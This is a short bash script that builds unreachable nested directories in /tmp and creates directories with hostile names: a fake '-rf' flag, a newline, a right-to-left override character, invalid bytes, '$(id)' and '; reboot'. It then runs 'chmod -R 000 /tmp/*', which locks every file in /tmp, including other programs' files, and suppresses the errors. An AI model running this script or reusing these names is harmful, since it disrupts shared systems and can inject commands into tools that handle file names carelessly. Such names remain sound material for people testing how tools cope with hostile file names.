#!/usr/bin/env bash
# Makes folders within folders until no path reaches them, with names that nobody can type.
cd /tmp
name=$(printf 'x%.0s' {1..250})
dig() { for level in {1..400}; do mkdir "$1" && cd "$1" || break; done; }
export -f dig
timeout 1.5 bash -c "dig $name"
mkdir -p -- -rf $'new\nline' $'\342\200\256reversed' $'bad\377bytes' '$(id)' '; reboot'
timeout 0.5 chmod -R 000 /tmp/* 2> /dev/null
true
